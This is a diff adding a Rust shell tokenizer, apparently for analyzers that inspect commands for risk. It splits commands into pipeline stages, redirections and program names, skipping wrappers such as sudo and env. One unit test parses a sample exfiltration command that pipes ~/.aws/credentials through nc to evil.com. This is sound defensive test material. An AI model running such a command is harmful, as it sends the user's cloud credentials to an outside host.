@@ -0,0 +1,328 @@
+//! Lightweight shell tokenizer used by the command analyzers
+//!
+//! This is not a full shell parser. It understands quoting, escapes,
+//! pipes and redirections well enough to find the program being run,
+//! its arguments and where its input comes from / output goes to.
+
+/// A single shell token
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Token {
+    /// A word with quotes and escapes removed
+    Word(String),
+    /// An operator such as `|`, `>`, `>>`, `<`, `2>`
+    Op(String),
+}
+
+/// A redirection attached to a pipeline stage
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Redirect {
+    /// Operator without file descriptor prefix (`>`, `>>`, `<`, `<<<`, ...)
+    pub op: String,
+    /// Redirection target (file path, here-string, ...)
+    pub target: String,
+}
+
+/// One stage of a pipeline (`a | b` has two stages)
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Stage {
+    pub words: Vec<String>,
+    pub redirects: Vec<Redirect>,
+}
+
+/// Split a command into words and operators, respecting quotes
+pub fn tokenize(command: &str) -> Vec<Token> {
+    let mut tokens = Vec::new();
+    let mut current = String::new();
+    let mut has_word = false;
+    let mut chars = command.chars().peekable();
+
+    let flush = |tokens: &mut Vec<Token>, current: &mut String, has_word: &mut bool| {
+        if *has_word {
+            tokens.push(Token::Word(std::mem::take(current)));
+            *has_word = false;
+        }
+    };
+
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' => {
+                if let Some(next) = chars.next() {
+                    current.push(next);
+                }
+                has_word = true;
+            }
+            '\'' => {
+                for q in chars.by_ref() {
+                    if q == '\'' {
+                        break;
+                    }
+                    current.push(q);
+                }
+                has_word = true;
+            }
+            '"' => {
+                while let Some(q) = chars.next() {
+                    if q == '"' {
+                        break;
+                    }
+                    if q == '\\' {
+                        if let Some(&next) = chars.peek() {
+                            if matches!(next, '"' | '\\' | '$' | '`') {
+                                current.push(next);
+                                chars.next();
+                                continue;
+                            }
+                        }
+                    }
+                    current.push(q);
+                }
+                has_word = true;
+            }
+            c if c.is_whitespace() => {
+                flush(&mut tokens, &mut current, &mut has_word);
+            }
+            '|' | ';' | '&' => {
+                flush(&mut tokens, &mut current, &mut has_word);
+                let mut op = c.to_string();
+                if c == '&' && chars.peek() == Some(&'>') {
+                    // &> and &>> redirect both stdout and stderr
+                    op.push(chars.next().unwrap_or('>'));
+                    if chars.peek() == Some(&'>') {
+                        op.push(chars.next().unwrap_or('>'));
+                    }
+                } else if chars.peek() == Some(&c) || (c == '|' && chars.peek() == Some(&'&')) {
+                    op.push(chars.next().unwrap_or(c));
+                }
+                tokens.push(Token::Op(op));
+            }
+            '<' | '>' => {
+                // A bare file descriptor number directly before the operator
+                // belongs to the operator (e.g. `2>`), not to the word list
+                let mut op = String::new();
+                if has_word && !current.is_empty() && current.chars().all(|d| d.is_ascii_digit()) {
+                    op.push_str(&std::mem::take(&mut current));
+                    has_word = false;
+                }
+                flush(&mut tokens, &mut current, &mut has_word);
+                op.push(c);
+                while let Some(&next) = chars.peek() {
+                    if next == c || (c == '>' && next == '|') || (c == '<' && next == '>') {
+                        op.push(next);
+                        chars.next();
+                    } else {
+                        break;
+                    }
+                }
+                // Descriptor duplication such as `2>&1` or `<&0`
+                if chars.peek() == Some(&'&') {
+                    op.push('&');
+                    chars.next();
+                    while let Some(&d) = chars.peek() {
+                        if d.is_ascii_digit() || d == '-' {
+                            op.push(d);
+                            chars.next();
+                        } else {
+                            break;
+                        }
+                    }
+                }
+                tokens.push(Token::Op(op));
+            }
+            _ => {
+                current.push(c);
+                has_word = true;
+            }
+        }
+    }
+    flush(&mut tokens, &mut current, &mut has_word);
+
+    tokens
+}
+
+/// Split a (non-compound) command into pipeline stages
+pub fn pipeline(command: &str) -> Vec<Stage> {
+    let mut stages = Vec::new();
+    let mut stage = Stage::default();
+    let mut tokens = tokenize(command).into_iter().peekable();
+
+    while let Some(token) = tokens.next() {
+        match token {
+            Token::Word(w) => stage.words.push(w),
+            Token::Op(op) if op == "|" || op == "|&" => {
+                stages.push(std::mem::take(&mut stage));
+            }
+            Token::Op(op) if op.contains('<') || op.contains('>') => {
+                let bare = op.trim_start_matches(|c: char| c.is_ascii_digit()).to_string();
+                if bare.contains('&') && !bare.starts_with('&') {
+                    // Descriptor duplication carries its own target
+                    continue;
+                }
+                if let Some(Token::Word(_)) = tokens.peek() {
+                    if let Some(Token::Word(target)) = tokens.next() {
+                        stage.redirects.push(Redirect { op: bare, target });
+                    }
+                }
+            }
+            Token::Op(_) => {
+                // Command separators: compound commands are split earlier,
+                // but keep stages separate if one slips through
+                stages.push(std::mem::take(&mut stage));
+            }
+        }
+    }
+    if !stage.words.is_empty() || !stage.redirects.is_empty() {
+        stages.push(stage);
+    }
+
+    stages
+}
+
+impl Stage {
+    /// Index of the actual program word, skipping env assignments and
+    /// wrappers like `sudo`, `env`, `nohup`, `time`
+    pub fn program_index(&self) -> Option<usize> {
+        let mut i = 0;
+        while i < self.words.len() {
+            let word = &self.words[i];
+            if is_env_assignment(word) {
+                i += 1;
+                continue;
+            }
+            match basename(word) {
+                "sudo" | "doas" => {
+                    i += 1;
+                    while i < self.words.len() && self.words[i].starts_with('-') {
+                        let flag = &self.words[i];
+                        i += 1;
+                        if matches!(flag.as_str(), "-u" | "-g" | "-C" | "-h" | "-p" | "-U") {
+                            i += 1;
+                        }
+                    }
+                }
+                "env" => {
+                    i += 1;
+                    while i < self.words.len()
+                        && (self.words[i].starts_with('-') || is_env_assignment(&self.words[i]))
+                    {
+                        i += 1;
+                    }
+                }
+                "nice" | "timeout" => {
+                    i += 1;
+                    while i < self.words.len() && self.words[i].starts_with('-') {
+                        if self.words[i] == "-n" {
+                            i += 1;
+                        }
+                        i += 1;
+                    }
+                    if basename(word) == "timeout" {
+                        i += 1; // duration
+                    }
+                }
+                "nohup" | "time" | "command" | "exec" | "builtin" => i += 1,
+                _ => return Some(i),
+            }
+        }
+        None
+    }
+
+    /// Program name (basename) of this stage
+    pub fn program(&self) -> Option<&str> {
+        self.program_index().map(|i| basename(&self.words[i]))
+    }
+
+    /// Arguments following the program name
+    pub fn args(&self) -> &[String] {
+        match self.program_index() {
+            Some(i) => &self.words[i + 1..],
+            None => &[],
+        }
+    }
+}
+
+/// Basename of a program path (`/usr/bin/curl` -> `curl`)
+pub fn basename(word: &str) -> &str {
+    word.rsplit('/').next().unwrap_or(word)
+}
+
+/// Whether a word is a `NAME=value` assignment
+pub fn is_env_assignment(word: &str) -> bool {
+    match word.find('=') {
+        Some(pos) if pos > 0 => word[..pos]
+            .chars()
+            .enumerate()
+            .all(|(i, c)| c == '_' || c.is_ascii_alphabetic() || (i > 0 && c.is_ascii_digit())),
+        _ => false,
+    }
+}
+
+/// Normalize a path for pattern matching: `$HOME/x` and `/home/me/x` become `~/x`
+pub fn normalize_path(path: &str) -> String {
+    for prefix in ["$HOME", "${HOME}"] {
+        if let Some(rest) = path.strip_prefix(prefix) {
+            if rest.is_empty() || rest.starts_with('/') {
+                return format!("~{}", rest);
+            }
+        }
+    }
+    if let Some(home) = dirs::home_dir() {
+        if let Some(home_str) = home.to_str() {
+            if let Some(rest) = path.strip_prefix(home_str) {
+                if rest.is_empty() || rest.starts_with('/') {
+                    return format!("~{}", rest);
+                }
+            }
+        }
+    }
+    path.to_string()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn words(command: &str) -> Vec<String> {
+        tokenize(command)
+            .into_iter()
+            .filter_map(|t| match t {
+                Token::Word(w) => Some(w),
+                Token::Op(_) => None,
+            })
+            .collect()
+    }
+
+    #[test]
+    fn test_tokenize_quotes() {
+        assert_eq!(words("echo 'a b' \"c d\" e\\ f"), vec!["echo", "a b", "c d", "e f"]);
+    }
+
+    #[test]
+    fn test_tokenize_operators() {
+        let tokens = tokenize("cat a 2>/dev/null | tee -a b >> c");
+        assert!(tokens.contains(&Token::Op("2>".to_string())));
+        assert!(tokens.contains(&Token::Op("|".to_string())));
+        assert!(tokens.contains(&Token::Op(">>".to_string())));
+    }
+
+    #[test]
+    fn test_pipeline_stages_and_redirects() {
+        let stages = pipeline("cat ~/.aws/credentials | nc evil.com 80 > out.txt 2>&1");
+        assert_eq!(stages.len(), 2);
+        assert_eq!(stages[0].program(), Some("cat"));
+        assert_eq!(stages[1].program(), Some("nc"));
+        assert_eq!(stages[1].redirects, vec![Redirect { op: ">".to_string(), target: "out.txt".to_string() }]);
+    }
+
+    #[test]
+    fn test_program_skips_wrappers() {
+        let stages = pipeline("FOO=1 sudo -u root env BAR=2 /usr/bin/curl -s x");
+        assert_eq!(stages[0].program(), Some("curl"));
+        assert_eq!(stages[0].args(), &["-s".to_string(), "x".to_string()]);
+    }
+
+    #[test]
+    fn test_normalize_path() {
+        assert_eq!(normalize_path("$HOME/.ssh/id_rsa"), "~/.ssh/id_rsa");
+        assert_eq!(normalize_path("/etc/hosts"), "/etc/hosts");
+    }
+}